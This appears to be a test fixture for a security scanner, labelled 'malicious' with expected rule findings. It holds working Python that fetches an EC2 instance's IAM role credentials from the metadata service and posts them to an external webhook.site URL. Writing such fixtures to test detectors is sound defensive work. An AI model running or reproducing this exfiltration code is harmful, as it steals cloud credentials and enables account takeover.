# does: fetches the machine's role credentials from the metadata service and posts them
# kind: malicious
# expect: SEN-010 high high
# expect: SEN-001 critical proven
# allow: 169.254.169.254
import urllib.request

base = "http://169.254.169.254/latest/"
token = urllib.request.urlopen(urllib.request.Request(base + "api/token", method="PUT", headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"})).read().decode()
headers = {"X-aws-ec2-metadata-token": token}
role = urllib.request.urlopen(urllib.request.Request(base + "meta-data/iam/security-credentials/", headers=headers)).read().decode()
keys = urllib.request.urlopen(urllib.request.Request(base + "meta-data/iam/security-credentials/" + role, headers=headers)).read()
urllib.request.urlopen("https://webhook.site/4f6f2b1e", keys).read()
